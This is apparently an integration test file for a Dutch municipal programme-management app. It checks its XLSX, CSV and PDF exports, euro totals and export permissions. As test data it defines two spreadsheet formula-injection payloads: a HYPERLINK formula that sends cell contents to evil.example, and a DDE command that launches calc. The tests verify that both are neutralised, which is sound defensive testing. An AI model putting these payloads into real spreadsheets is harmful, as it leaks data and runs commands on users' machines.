import { formatEuros } from '@koers/domain';
import type {
  AssignmentSummary,
  ContributionsResponse,
  CouncilDecisionMatrixResponse,
  Page,
  ProgrammeResponse,
  ViewPointRegisterResponse,
} from '@koers/contracts';
import { parse } from 'csv-parse/sync';
import { writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { Clock } from '../src/common/clock';
import { dataSourceOptions } from '../src/database/data-source';
import { demoRegionId } from '../src/seed/demo-lookups';
import { DEMO_SEEDS } from '../src/seed/demo-seeds';
import { runSeeds } from '../src/seed/run-seeds';
import { sendToCouncils } from './factories/council-cycle-d';
import { signIn, SignedInAgent } from './support/accounts';
import { allText, readPdf } from './documents/read-pdf';
import { binaryParser } from './support/binary';
import { startTestApp, TestApp } from './support/test-app';

const DEMO_PASSWORD = 'koers-demo-2026';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const INJECTED_TITLE = '=HYPERLINK("https://evil.example/?x="&A1,"Klik hier")';
const INJECTED_VIEW = "+cmd|' /C calc'!A0 en verder";
const BOM = '\ufeff';

const arrayBufferOf = (bytes: Buffer): ArrayBuffer => new Uint8Array(bytes).buffer;

/** Euros in a cell back to cents, exactly. */
const cents = (euros: unknown) => Math.round((euros as number) * 100);

describe('programme exports: XLSX and CSV, read back', () => {
  let t: TestApp;
  let ds: DataSource;
  let bureau: SignedInAgent;
  let programmeId: string;
  let contributions: ContributionsResponse;
  let assignments: AssignmentSummary[];
  let matrix: CouncilDecisionMatrixResponse;
  let views: ViewPointRegisterResponse;
  let programme: ProgrammeResponse;

  const download = async (agent: SignedInAgent, path: string) =>
    (await agent.get(path).buffer(true).parse(binaryParser).expect(200)) as request.Response & {
      body: Buffer;
    };

  beforeAll(async () => {
    t = await startTestApp();
    ds = await new DataSource(dataSourceOptions(t.db.url)).initialize();
    await runSeeds(ds, DEMO_SEEDS);
    jest.spyOn(t.app.get(Clock), 'today').mockReturnValue('2026-05-14');
    const admin = await t.asAdmin();
    bureau = await signIn(t.http, 'bureau@koers.demo', DEMO_PASSWORD);
    const regionId = await demoRegionId(ds.manager, 'MRE');
    const list = await bureau.get(`/api/regions/${regionId}/programmes`).expect(200);
    programmeId = list.body.items[0].id as string;
    const first = await bureau
      .get(`/api/programmes/${programmeId}/assignments?limit=1&sort=code`)
      .expect(200);
    const target = (first.body as Page<AssignmentSummary>).items[0];
    await bureau
      .patch(`/api/assignments/${target.id}`)
      .send({ title: INJECTED_TITLE, version: target.version })
      .expect(200);
    await sendToCouncils(admin, t.db.url, programmeId, '2026-03-02');
    const municipalities = await bureau
      .get(`/api/regions/${regionId}/municipalities?limit=50`)
      .expect(200);
    const eindhoven = (municipalities.body.items as { id: string; name: string }[]).find(
      (m) => m.name === 'Eindhoven',
    )!.id;
    await bureau
      .put(`/api/programmes/${programmeId}/council-decisions/${eindhoven}`)
      .send({
        status: 'agreed_with_view',
        decisionDate: '2026-05-12',
        version: 1,
        viewPoints: [{ text: INJECTED_VIEW }, { text: 'Houd de inwonerbijdrage beheersbaar.' }],
      })
      .expect(200);
    views = (await bureau.get(`/api/programmes/${programmeId}/views`).expect(200)).body;
    await bureau
      .put(`/api/programmes/${programmeId}/views/${views.items[1].id}/answer`)
      .send({ answer: 'Het bestuur neemt dit over.', outcome: 'adopted', version: 1 })
      .expect(200);
    views = (await bureau.get(`/api/programmes/${programmeId}/views`).expect(200)).body;
    programme = (await bureau.get(`/api/programmes/${programmeId}`).expect(200)).body;
    contributions = (await bureau.get(`/api/programmes/${programmeId}/contributions`).expect(200))
      .body;
    assignments = (
      await bureau.get(`/api/programmes/${programmeId}/assignments?limit=200&sort=code`).expect(200)
    ).body.items;
    matrix = (await bureau.get(`/api/programmes/${programmeId}/council-decisions`).expect(200))
      .body;
  }, 120_000);

  afterAll(async () => {
    await ds.destroy();
    await t.close();
  });

  describe('the workbook', () => {
    let workbook: ExcelJS.Workbook;
    let response: request.Response;
    beforeAll(async () => {
      response = await download(bureau, `/api/programmes/${programmeId}/export/workbook`);
      // Kept for a look at the demo programme's sheets (the closing note shows them opened).
      writeFileSync(join(tmpdir(), 'koers-demo-programme.xlsx'), response.body as Buffer);
      workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(arrayBufferOf(response.body as Buffer));
    });

    it('is one XLSX download with a cover sheet and a sheet per table', () => {
      expect(response.headers['content-type']).toBe(XLSX);
      expect(response.headers['content-disposition']).toMatch(/attachment; filename=".+\.xlsx"/);
      expect(workbook.worksheets.map((s) => s.name)).toEqual([
        'Voorblad',
        'Opdrachten',
        'Begrotingsregels',
        'Capaciteit',
        'Bijdragen',
        'Raadsbesluiten',
        'Zienswijzen',
      ]);
      const cover = workbook.getWorksheet('Voorblad')!;
      const values = new Map<string, unknown>();
      cover.eachRow((row) => values.set(row.getCell(1).text, row.getCell(2).value));
      expect(values.get('Programma')).toBe(programme.title);
      expect(values.get('Status')).toBe('Bij de gemeenteraden');
      expect(values.get('Versie')).toBe(programme.version);
      expect(values.get('Peildatum inwonertallen')).toEqual(
        new Date(`${contributions.populationReferenceDate}T00:00:00Z`),
      );
      expect(cents(values.get('Begroting totaal'))).toBe(programme.totals.budgetTotalCents);
      expect(values.get('Geëxporteerd op')).toBeInstanceOf(Date);
    });

    it('lists every assignment with its budget total to the cent, frozen header and euro format', () => {
      const sheet = workbook.getWorksheet('Opdrachten')!;
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      expect(header.slice(0, 3)).toEqual(['Code', 'Opgave', 'Titel']);
      const budgetColumn = header.indexOf('Begroting totaal') + 1;
      expect(sheet.rowCount - 1).toBe(assignments.length);
      for (const [i, a] of assignments.entries()) {
        const row = sheet.getRow(i + 2);
        expect(row.getCell(1).value).toBe(a.code);
        expect(cents(row.getCell(budgetColumn).value)).toBe(a.budgetTotalCents);
        expect(row.getCell(budgetColumn).numFmt).toContain('€');
        expect(row.getCell(budgetColumn).numFmt).toContain('0.00');
      }
    });

    it('neutralises the formula in a title: a text starting with an apostrophe, no formula', () => {
      const sheet = workbook.getWorksheet('Opdrachten')!;
      const cell = sheet.getRow(2).getCell(3);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(`'${INJECTED_TITLE}`);
      const viewSheet = workbook.getWorksheet('Zienswijzen')!;
      const texts: unknown[] = [];
      viewSheet.eachRow((row, n) => n > 1 && texts.push(row.getCell(4).value));
      expect(texts).toContain(`'${INJECTED_VIEW}`);
    });

    it('has the budget lines per source and year summing to the programme total', () => {
      const sheet = workbook.getWorksheet('Begrotingsregels')!;
      let total = 0;
      sheet.eachRow((row, n) => {
        if (n > 1) total += cents(row.getCell(6).value);
      });
      expect(total).toBe(programme.totals.budgetTotalCents);
    });

    it('has contributions whose SUM formulas cache the API totals and compute them too', () => {
      const sheet = workbook.getWorksheet('Bijdragen')!;
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1, xSplit: 1 });
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      const codes = contributions.assignments.map((a) => a.code);
      expect(header).toEqual(['Gemeente', 'CBS-code', 'Inwoners', ...codes, 'Totaal']);
      const first = 4;
      const totalColumn = first + codes.length;
      const columnSums = codes.map(() => 0);
      for (const [i, m] of contributions.municipalities.entries()) {
        const row = sheet.getRow(i + 2);
        expect(row.getCell(1).value).toBe(m.name);
        let rowSum = 0;
        for (const [j, a] of contributions.assignments.entries()) {
          const value = row.getCell(first + j).value;
          const share = m.byAssignment.find((s) => s.assignmentId === a.assignmentId);
          expect(value === null ? null : cents(value)).toBe(share ? share.amountCents : null);
          rowSum += value === null ? 0 : cents(value);
          columnSums[j] += value === null ? 0 : cents(value);
        }
        const total = row.getCell(totalColumn).value as ExcelJS.CellFormulaValue;
        expect(total.formula).toMatch(new RegExp(`^SUM\\(D${i + 2}:[A-Z]+${i + 2}\\)$`));
        expect(cents(total.result)).toBe(m.totalCents);
        expect(rowSum).toBe(m.totalCents);
        expect(row.getCell(totalColumn).numFmt).toContain('€');
      }
      const totalsRow = sheet.getRow(contributions.municipalities.length + 2);
      expect(totalsRow.getCell(1).value).toBe('Totaal');
      for (const [j, a] of contributions.assignments.entries()) {
        const cell = totalsRow.getCell(first + j).value as ExcelJS.CellFormulaValue;
        expect(cell.formula).toMatch(/^SUM\([A-Z]+2:[A-Z]+\d+\)$/);
        expect(cents(cell.result)).toBe(a.splitTotalCents);
        expect(columnSums[j]).toBe(a.splitTotalCents);
      }
      const grand = totalsRow.getCell(totalColumn).value as ExcelJS.CellFormulaValue;
      expect(cents(grand.result)).toBe(contributions.totalCents);
      expect(columnSums.reduce((x, y) => x + y, 0)).toBe(contributions.totalCents);
    });

    it('has the ratification matrix and the views register with the answers', () => {
      const decisions = workbook.getWorksheet('Raadsbesluiten')!;
      expect(decisions.rowCount - 1).toBe(matrix.items.length);
      const eindhoven = [...Array(decisions.rowCount).keys()]
        .map((i) => decisions.getRow(i + 1))
        .find((row) => row.getCell(1).value === 'Eindhoven')!;
      expect(eindhoven.getCell(2).value).toBe('Ingestemd met zienswijze');
      expect(eindhoven.getCell(4).value).toEqual(new Date('2026-05-12T00:00:00Z'));
      expect(eindhoven.getCell(7).value).toBe(2);
      const register = workbook.getWorksheet('Zienswijzen')!;
      expect(register.rowCount - 1).toBe(views.total);
      const answered = register.getRow(3);
      expect(answered.getCell(5).value).toBe('Overgenomen');
      expect(answered.getCell(6).value).toBe('Het bestuur neemt dit over.');
    });
  });

  describe('CSV', () => {
    const csv = async (table: string, query = '') => {
      const res = await download(
        bureau,
        `/api/programmes/${programmeId}/export/tables/${table}${query}`,
      );
      const text = (res.body as Buffer).toString('utf8');
      return { res, text };
    };

    it('writes each table as UTF-8 with a BOM, the same headers as the sheets', async () => {
      for (const table of [
        'assignments',
        'budget-lines',
        'capacity-lines',
        'contributions',
        'council-decisions',
        'views',
      ]) {
        const { res, text } = await csv(table);
        expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
        expect(res.headers['content-disposition']).toMatch(/\.csv"/);
        expect(text.startsWith(BOM)).toBe(true);
        const rows = parse(text, { bom: true });
        expect(rows.length).toBeGreaterThan(1);
      }
    });

    it('gives amounts with a decimal point and commas between fields, to the cent', async () => {
      const { text } = await csv('contributions');
      const rows = parse(text, { bom: true });
      expect(rows[0].slice(-1)).toEqual(['Totaal']);
      for (const [i, m] of contributions.municipalities.entries()) {
        expect(rows[i + 1][0]).toBe(m.name);
        expect(rows[i + 1].at(-1)).toBe((m.totalCents / 100).toFixed(2));
      }
      expect(rows.at(-1)!.at(-1)).toBe((contributions.totalCents / 100).toFixed(2));
    });

    it('with ?separator=semicolon: semicolons and a decimal comma for Dutch Excel', async () => {
      const { text } = await csv('assignments', '?separator=semicolon');
      expect(text.split('\r\n')[0]).toMatch(/^\ufeffCode;Opgave;Titel;/);
      const rows = parse(text, { bom: true, delimiter: ';' });
      const budget = rows[0].indexOf('Begroting totaal');
      for (const [i, a] of assignments.entries()) {
        const cell = rows[i + 1][budget];
        expect(cell).toBe((a.budgetTotalCents / 100).toFixed(2).replace('.', ','));
      }
    });

    it('neutralises formula injection in every text cell', async () => {
      const { text } = await csv('assignments');
      const rows = parse(text, { bom: true });
      expect(rows[1][2]).toBe(`'${INJECTED_TITLE}`);
      const register = parse((await csv('views')).text, { bom: true });
      expect(register.map((r) => r[3])).toContain(`'${INJECTED_VIEW}`);
      for (const row of [...rows, ...register]) {
        for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
      }
    });

    it('refuses an unknown table (404) and an unknown separator (400 naming it)', async () => {
      await bureau.get(`/api/programmes/${programmeId}/export/tables/secrets`).expect(404);
      const bad = await bureau
        .get(`/api/programmes/${programmeId}/export/tables/assignments?separator=tab`)
        .expect(400);
      expect(bad.body.errors[0].field).toBe('separator');
    });
  });

  describe('the programme as a document (PDF)', () => {
    it('is a tagged Dutch PDF of the whole programme, marked CONCEPT before adoption, amounts as the API', async () => {
      const res = await download(bureau, `/api/programmes/${programmeId}/export/document`);
      expect(res.headers['content-type']).toBe('application/pdf');
      expect(res.headers['content-disposition']).toMatch(/attachment; filename=".+-concept\.pdf"/);
      writeFileSync(join(tmpdir(), 'koers-demo-programme.pdf'), res.body as Buffer);
      const pdf = await readPdf(res.body as Buffer);
      expect(pdf.title).toBe(`${programme.title} (concept)`);
      expect(pdf.language).toBe('nl-NL');
      expect(pdf.tagged).toBe(true);
      const text = allText(pdf);
      expect(text).toContain('CONCEPT — Dit is het programma zoals het nu is');
      expect(pdf.outline.map((o) => o.title)).toEqual([
        programme.title,
        'Het programma in cijfers',
        'Opgaven en opdrachten',
        'Bijdragen per gemeente',
      ]);
      const assignmentHeadings = pdf.outline[2].items.flatMap((theme) =>
        theme.items.map((i) => i.title.split(' ')[0]),
      );
      expect(assignmentHeadings.sort()).toEqual(assignments.map((a) => a.code).sort());
      const plain = (cents: number) => formatEuros(cents).replace(/\u00a0/g, ' ');
      expect(text).toContain(plain(programme.totals.budgetTotalCents));
      for (const m of contributions.municipalities) {
        expect(text).toContain(`${m.name}`);
        expect(text).toContain(plain(m.totalCents));
      }
      expect(text).toContain(plain(contributions.totalCents));
      for (const a of assignments) expect(text).toContain(plain(a.budgetTotalCents));
    });

    it('once adopted: the public reads it, without the concept mark', async () => {
      await ds.query(
        `UPDATE programmes SET status = 'adopted', adopted_on = '2026-07-02' WHERE id = $1`,
        [programmeId],
      );
      try {
        const res = await request(t.http)
          .get(`/api/programmes/${programmeId}/export/document`)
          .buffer(true)
          .parse(binaryParser)
          .expect(200);
        expect(res.headers['content-disposition']).not.toContain('concept');
        const pdf = await readPdf(res.body as Buffer);
        expect(pdf.title).toBe(programme.title);
        const text = allText(pdf);
        expect(text).toContain('Vastgesteld op 2-7-2026');
        expect(text).not.toContain('CONCEPT');
        expect(text).toContain(formatEuros(contributions.totalCents).replace(/\u00a0/g, ' '));
      } finally {
        await ds.query(
          `UPDATE programmes SET status = 'consultation', adopted_on = NULL WHERE id = $1`,
          [programmeId],
        );
      }
    });
  });

  describe('who may export', () => {
    it('lets the board and an observer download, not another region nor the public (404)', async () => {
      for (const email of ['board@koers.demo', 'observer@koers.demo']) {
        const agent = await signIn(t.http, email, DEMO_PASSWORD);
        await download(agent, `/api/programmes/${programmeId}/export/workbook`);
      }
      const zwolle = await signIn(t.http, 'bureau.zwolle@koers.demo', DEMO_PASSWORD);
      for (const path of ['workbook', 'tables/contributions', 'document']) {
        const res = await zwolle.get(`/api/programmes/${programmeId}/export/${path}`).expect(404);
        expect(res.body.code).toBe('PROGRAMME_NOT_FOUND');
        await request(t.http).get(`/api/programmes/${programmeId}/export/${path}`).expect(404);
      }
    });
  });
});
